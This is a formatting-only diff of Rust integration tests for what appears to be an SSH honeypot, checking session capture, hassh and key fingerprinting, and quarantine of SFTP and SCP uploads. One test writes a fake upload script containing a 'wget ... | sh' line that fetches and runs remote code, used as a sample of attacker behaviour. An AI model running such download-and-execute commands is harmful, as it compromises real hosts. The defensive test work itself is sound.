@@ -21,11 +21,16 @@ impl Client {
     /// `passwords` are typed in order, the last one again for any further prompt.
     fn new(port: u16, passwords: &[&str]) -> Self {
         let dir = tempfile::tempdir().unwrap();
-        let mut script = String::from("#!/bin/sh\nn=$(cat \"$0.count\" 2>/dev/null || echo 0)\necho $((n + 1)) > \"$0.count\"\ncase $n in\n");
+        let mut script = String::from(
+            "#!/bin/sh\nn=$(cat \"$0.count\" 2>/dev/null || echo 0)\necho $((n + 1)) > \"$0.count\"\ncase $n in\n",
+        );
         for (i, p) in passwords.iter().enumerate() {
             script.push_str(&format!("  {i}) echo '{p}' ;;\n"));
         }
-        script.push_str(&format!("  *) echo '{}' ;;\nesac\n", passwords.last().unwrap()));
+        script.push_str(&format!(
+            "  *) echo '{}' ;;\nesac\n",
+            passwords.last().unwrap()
+        ));
         // Not /dev/null: these files must stay empty whatever else runs on the machine.
         std::fs::write(dir.path().join("config"), "").unwrap();
         let askpass = dir.path().join("askpass");
@@ -51,17 +56,17 @@ impl Client {
         ];
         o.extend(
             [
-            "-o",
-            "StrictHostKeyChecking=no",
-            "-o",
-            "LogLevel=error",
-            "-o",
-            "ConnectTimeout=10",
-            "-o",
-            "BatchMode=no",
-        ]
-        .iter()
-        .map(|s| (*s).to_owned()),
+                "-o",
+                "StrictHostKeyChecking=no",
+                "-o",
+                "LogLevel=error",
+                "-o",
+                "ConnectTimeout=10",
+                "-o",
+                "BatchMode=no",
+            ]
+            .iter()
+            .map(|s| (*s).to_owned()),
         );
         if !pubkey {
             o.extend(["-o".into(), "PubkeyAuthentication=no".into()]);
@@ -87,9 +92,9 @@ impl Client {
             .stdin(Stdio::piped())
             .stdout(Stdio::piped())
             .stderr(Stdio::piped());
-        let mut child = c
-            .spawn()
-            .unwrap_or_else(|e| panic!("ssh (openssh-client) is installed by scripts/test.sh: {e}"));
+        let mut child = c.spawn().unwrap_or_else(|e| {
+            panic!("ssh (openssh-client) is installed by scripts/test.sh: {e}")
+        });
         let mut input = child.stdin.take().unwrap();
         if let Some(bytes) = stdin {
             input.write_all(bytes).unwrap();
@@ -105,7 +110,9 @@ impl Client {
             .args(args)
             .stdin(Stdio::null())
             .output()
-            .unwrap_or_else(|e| panic!("{program} (openssh-client) is installed by scripts/test.sh: {e}"));
+            .unwrap_or_else(|e| {
+                panic!("{program} (openssh-client) is installed by scripts/test.sh: {e}")
+            });
         assert!(
             out.status.success(),
             "{program} failed:\n{}\n{}",
@@ -148,22 +155,29 @@ fn exec_and_interactive_sessions_are_captured() {
     );
     let client = Client::new(decky.port, &["letmein", "admin"]);
     let out = client.ssh(&["root@127.0.0.1", "uname -a; id"], None);
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let exec = text(&out);
     assert_eq!(
         exec,
         "Linux SRV-WEB-42 6.1.0-27-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.115-1 (2024-11-01) x86_64 GNU/Linux\nuid=0(root) gid=0(root) groups=0(root)\n"
     );
 
-    let out = client.ssh(
-        &["-tt", "root@127.0.0.1"],
-        Some(b"cd /etc\nwhoami\nexit\n"),
-    );
+    let out = client.ssh(&["-tt", "root@127.0.0.1"], Some(b"cd /etc\nwhoami\nexit\n"));
     let shell = text(&out);
     assert!(out.status.success(), "{shell}");
-    assert!(shell.contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY"), "{shell}");
+    assert!(
+        shell.contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY"),
+        "{shell}"
+    );
     assert!(shell.contains("Last login: "), "{shell}");
-    assert!(shell.contains("root@SRV-WEB-42:/etc# whoami\r\nroot\r\n"), "{shell}");
+    assert!(
+        shell.contains("root@SRV-WEB-42:/etc# whoami\r\nroot\r\n"),
+        "{shell}"
+    );
     assert!(shell.contains("logout"), "{shell}");
 
     let lines = decky.wait_for(|l| disconnects(l) >= 2);
@@ -176,7 +190,11 @@ fn exec_and_interactive_sessions_are_captured() {
     );
     let hassh = sd_param(clients[0], "hassh").unwrap();
     assert!(hassh.len() == 32 && hassh.bytes().all(|b| b.is_ascii_hexdigit()));
-    assert!(sd_param(clients[0], "hassh_algorithms").unwrap().contains("curve25519-sha256"));
+    assert!(
+        sd_param(clients[0], "hassh_algorithms")
+            .unwrap()
+            .contains("curve25519-sha256")
+    );
     assert_eq!(of_kind(&lines, "ssh_negotiated").len(), 2);
 
     let auths = of_kind(&lines, "auth_attempt");
@@ -229,7 +247,10 @@ fn sftp_and_scp_uploads_are_quarantined() {
     let payload = client.path("kit.sh");
     std::fs::write(
         &payload,
-        format!("#!/bin/sh\n# {}\nwget http://203.0.113.9/x -O- | sh\n", std::process::id()),
+        format!(
+            "#!/bin/sh\n# {}\nwget http://203.0.113.9/x -O- | sh\n",
+            std::process::id()
+        ),
     )
     .unwrap();
     let sha = sha256_of(&payload);
@@ -238,15 +259,27 @@ fn sftp_and_scp_uploads_are_quarantined() {
     let batch = client.path("batch");
     std::fs::write(
         &batch,
-        format!("put {local} /tmp/sftp.sh\nls -l /tmp\nget /etc/hostname {}\n", client.path("hostname").display()),
+        format!(
+            "put {local} /tmp/sftp.sh\nls -l /tmp\nget /etc/hostname {}\n",
+            client.path("hostname").display()
+        ),
     )
     .unwrap();
     let out = client.run(
         "sftp",
-        &["-P", &port, "-b", &batch.to_string_lossy(), "root@127.0.0.1"],
+        &[
+            "-P",
+            &port,
+            "-b",
+            &batch.to_string_lossy(),
+            "root@127.0.0.1",
+        ],
     );
     assert!(text(&out).contains("/tmp/sftp.sh"), "{}", text(&out));
-    assert_eq!(std::fs::read_to_string(client.path("hostname")).unwrap(), "SRV-WEB-42\n");
+    assert_eq!(
+        std::fs::read_to_string(client.path("hostname")).unwrap(),
+        "SRV-WEB-42\n"
+    );
     client.run("scp", &["-P", &port, &local, "root@127.0.0.1:/tmp/scp.sh"]);
     client.run("scp", &["-O", "-P", &port, &local, "root@127.0.0.1:/tmp/"]);
 
@@ -282,7 +315,10 @@ fn sftp_and_scp_uploads_are_quarantined() {
         .filter_map(|l| sd_param(l, "cmd"))
         .collect();
     assert_eq!(commands.len(), 1);
-    assert!(commands[0].starts_with("scp ") && commands[0].contains(" -t "), "{commands:?}");
+    assert!(
+        commands[0].starts_with("scp ") && commands[0].contains(" -t "),
+        "{commands:?}"
+    );
     assert_neutral(&lines);
 }
 
@@ -297,7 +333,11 @@ fn publickey_attempts_are_fingerprinted() {
         .status()
         .unwrap();
     assert!(status.success());
-    let listed = Command::new("ssh-keygen").arg("-lf").arg(&key).output().unwrap();
+    let listed = Command::new("ssh-keygen")
+        .arg("-lf")
+        .arg(&key)
+        .output()
+        .unwrap();
     let fingerprint = text(&listed).split_whitespace().nth(1).unwrap().to_owned();
     let out = client.ssh(
         &[
@@ -322,7 +362,10 @@ fn publickey_attempts_are_fingerprinted() {
     let auths = of_kind(&lines, "auth_attempt");
     assert_eq!(auths.len(), 1, "{lines:#?}");
     assert_eq!(sd_param(auths[0], "method").as_deref(), Some("publickey"));
-    assert_eq!(sd_param(auths[0], "key_type").as_deref(), Some("ssh-ed25519"));
+    assert_eq!(
+        sd_param(auths[0], "key_type").as_deref(),
+        Some("ssh-ed25519")
+    );
     assert_eq!(sd_param(auths[0], "key_fingerprint"), Some(fingerprint));
     assert_eq!(sd_param(auths[0], "success").as_deref(), Some("false"));
     assert_neutral(&lines);
